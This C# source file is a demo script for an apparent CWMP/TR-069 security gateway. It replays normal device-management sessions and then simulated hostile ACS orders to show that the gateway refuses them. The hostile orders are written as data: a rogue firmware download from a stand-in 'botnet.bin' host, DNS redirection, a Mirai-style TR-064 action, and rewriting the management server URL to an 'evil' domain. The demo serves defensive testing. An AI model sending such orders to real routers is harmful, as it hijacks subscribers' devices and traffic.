using System.Net;
using System.Threading.Channels;
using CwmpShield.Core.Cwmp;
using CwmpShield.Core.Firmware;
using CwmpShield.Core.Rules;
using CwmpShield.Gateway.Inspection;
using CwmpShield.Gateway.Mirror;

namespace CwmpShield.Cli.Demo;

/// <summary>What is played: ordinary sessions first, then nine attacks, each with an honest order behind it that must arrive.</summary>
internal sealed class DemoScript(DemoGateway gateway, DemoAcs acs, DemoTable table)
{
    private static readonly DeviceId Alice = new("001122", "HGW", "DEMO0001");
    private static readonly DeviceId Bob = new("001122", "HGW", "DEMO0002");
    private static readonly DeviceId Mallory = new("001122", "HGW", "DEMO0003");

    private const int MaxTries = 50;
    private const int TryAgainMilliseconds = 100;

    private static readonly Dictionary<string, string> WhyNoRule = new(StringComparer.Ordinal)
    {
        [MirrorReason.HashMismatch] = "What the mirror fetched has another SHA-256 than what was signed",
    };

    private readonly List<DemoRow> rows = [];
    private readonly Dictionary<string, string> titles = RuleSetLoader.Load(gateway.Rules, new RuleLoadOptions()).Set?.Rules.ToDictionary(rule => rule.Id, rule => rule.Title, StringComparer.Ordinal) ?? [];
    private ChannelReader<DecisionEvent> decisions = Channel.CreateBounded<DecisionEvent>(1).Reader;

    /// <summary>Plays everything.</summary>
    /// <returns>Whether all of it came out as it must.</returns>
    public async Task<bool> PlayAsync(CancellationToken cancellation)
    {
        decisions = gateway.Feed.Watch();
        using var alice = new DemoDevice(gateway.Door("certificate"), gateway.Root, Alice.SerialNumber, await gateway.EnrolAsync(Alice, cancellation), null);
        using var bob = new DemoDevice(gateway.Door("password"), gateway.Root, Bob.SerialNumber, null, await gateway.EnrolWithPasswordAsync(Bob, cancellation));

        table.Say("Ordinary sessions: they pass");
        await HonestAsync(alice, Alice, "reads a parameter", DemoSoap.Get("Device.DeviceInfo.UpTime"), cancellation);
        await HonestAsync(alice, Alice, "sets the Inform interval", DemoSoap.Set(("Device.ManagementServer.PeriodicInformInterval", "3600")), cancellation);
        await HonestAsync(alice, Alice, "is given the operator's resolver", DemoSoap.Set(("Device.DNS.Client.Server.1.DNSServer", "192.0.2.53")), cancellation);
        await UpdateAsync(alice, Alice, cancellation);
        await HonestAsync(bob, Bob, "logs in by Digest, reads a parameter", DemoSoap.Get("Device.DeviceInfo.UpTime"), cancellation);

        table.Say("The ACS has been taken over: its orders turn hostile");
        await AttackAsync(alice, Alice, "rogue firmware", DemoSoap.Download("https://203.0.113.66/botnet.bin"), cancellation);
        await AttackAsync(bob, Bob, "old firmware, whose holes are known", DemoSoap.Download(DemoFirmware.Url("hgw", "4.1.0")), cancellation);
        await AttackAsync(bob, Bob, "firmware of another model", DemoSoap.Download(DemoFirmware.Url("ont", DemoFirmware.Version)), cancellation);
        await AttackAsync(bob, Bob, "firmware that was withdrawn", DemoSoap.Download(DemoFirmware.Url("hgw", "4.2.9")), cancellation);
        await AttackAsync(bob, Bob, "firmware that was altered at the vendor's", DemoSoap.Download(DemoFirmware.Url("hgw", "4.4.0")), cancellation);
        await AttackAsync(bob, Bob, "DNS redirection", DemoSoap.Set(("Device.DNS.Client.Server.1.DNSServer", "203.0.113.66")), cancellation);
        await AttackAsync(alice, Alice, "TR-064 action (Mirai, 2016)", DemoSoap.Tr064(), cancellation);
        await AttackAsync(bob, Bob, "ACS takeover", DemoSoap.Set(("Device.ManagementServer.URL", "https://acs.evil.example/")), cancellation);

        table.Say("A device with a certificate of its own claims to be another subscriber");
        await ForgeAsync(cancellation);
        return rows.TrueForAll(row => row.AsItMust);
    }

    private async Task HonestAsync(DemoDevice device, DeviceId id, string what, string order, CancellationToken cancellation)
    {
        acs.Order(id.SerialNumber, order);
        var status = await RunAsync(device, cancellation);
        var refusal = Refusal();
        var obeyed = device.Obeyed.Count == 1 && status == HttpStatusCode.NoContent;
        Show(new DemoRow(
            id.SerialNumber, what, refusal is null ? "forwarded" : "refused", refusal?.Rule ?? "", refusal?.Why ?? "", $"ACS got {Told()}", obeyed));
    }

    /// <summary>The signed image: the gateway fetches and verifies it while the ACS is told to wait, and then serves it itself.</summary>
    private async Task UpdateAsync(DemoDevice device, DeviceId id, CancellationToken cancellation)
    {
        var waits = 0;
        for (; waits < MaxTries && !device.Obeyed.Contains("Download"); waits++)
        {
            await Task.Delay(waits == 0 ? 0 : TryAgainMilliseconds, cancellation);
            acs.Order(id.SerialNumber, DemoSoap.Download(DemoFirmware.Url("hgw", DemoFirmware.Version)));
            await RunAsync(device, cancellation);
        }

        var isSigned = device.Obeyed is ["Download"] && gateway.Firmware.IsSigned(await device.FetchAsync(cancellation));
        var mirror = isSigned ? new Uri(device.FetchesFrom).Authority : "";
        device.Version = DemoFirmware.Version;
        var status = await RunAsync(device, cancellation, "7 TRANSFER COMPLETE", DemoSoap.TransferComplete());
        Show(new DemoRow(
            id.SerialNumber,
            "downloads the signed firmware through the mirror",
            isSigned ? "forwarded" : "refused",
            "",
            "",
            $"ACS was told artefact-not-ready {(waits > 2 ? $"{waits - 1} times" : "once")} while the image was fetched and verified; the device got it from {mirror}, and reports {device.Version}",
            isSigned && mirror.EndsWith($":{gateway.Firmware.Port}", StringComparison.Ordinal) && status == HttpStatusCode.NoContent));
    }

    private async Task AttackAsync(DemoDevice device, DeviceId id, string what, string order, CancellationToken cancellation)
    {
        HttpStatusCode status;
        (string Rule, string Why)? refusal;
        var tries = 0;
        do
        {
            await Task.Delay(tries == 0 ? 0 : TryAgainMilliseconds, cancellation);
            acs.Order(id.SerialNumber, order);
            acs.Order(id.SerialNumber, DemoSoap.Get("Device.DeviceInfo.UpTime"));
            status = await RunAsync(device, cancellation);
            refusal = Refusal();
        }
        while (refusal?.Rule == ArtefactReason.NotReady && ++tries < MaxTries);
        var told = Told();
        var unharmed = status == HttpStatusCode.NoContent && device.Obeyed is ["GetParameterValues"];
        Show(new DemoRow(
            id.SerialNumber,
            what,
            refusal is null ? "forwarded" : "refused",
            refusal?.Rule ?? "",
            refusal?.Why ?? "",
            $"ACS got {told}; the device never saw the order and went on with {string.Join(", ", device.Obeyed)}",
            refusal is not null && unharmed && told.StartsWith("fault 9", StringComparison.Ordinal)));
    }

    private async Task ForgeAsync(CancellationToken cancellation)
    {
        acs.Order(Alice.SerialNumber, DemoSoap.Set(("Device.PPP.Interface.1.Password", "the subscriber's secret")));
        var informed = acs.Informed.Count;
        using var forger = new DemoDevice(gateway.Door("certificate"), gateway.Root, Alice.SerialNumber, await gateway.EnrolAsync(Mallory, cancellation), null);
        var status = await RunAsync(forger, cancellation);
        var refusal = Refusal();
        Show(new DemoRow(
            Mallory.SerialNumber,
            $"forged serial: informs as {Alice.SerialNumber}",
            "refused",
            refusal?.Rule ?? "",
            refusal?.Why ?? "",
            $"device got HTTP {(int)status}; not a byte reached the ACS",
            status == HttpStatusCode.Forbidden && acs.Informed.Count == informed && forger.Obeyed.Count == 0));
    }

    private async Task<HttpStatusCode> RunAsync(DemoDevice device, CancellationToken cancellation, string eventCode = "2 PERIODIC", string? report = null)
    {
        device.Obeyed.Clear();
        acs.Answers.Clear();
        while (decisions.TryRead(out _))
        {
        }

        return await device.InformAsync(eventCode, report, cancellation);
    }

    /// <summary>The first refusal among what was judged since the session began.</summary>
    private (string Rule, string Why)? Refusal()
    {
        while (decisions.TryRead(out var judged))
        {
            if (judged.Decision.Forwards)
            {
                continue;
            }

            var rule = judged.Decision.Hits.Select(hit => hit.RuleId).FirstOrDefault();
            var reason = judged.Decision.Reasons.FirstOrDefault("");
            return rule is null ? (reason, WhyNoRule.GetValueOrDefault(reason, "refused before any rule was asked")) : (rule, titles.GetValueOrDefault(rule, reason));
        }

        return null;
    }

    private string Told() => acs.Answers.TryPeek(out var answer) ? answer.Answer : "nothing";

    private void Show(DemoRow row)
    {
        rows.Add(row);
        table.Show(row);
    }
}
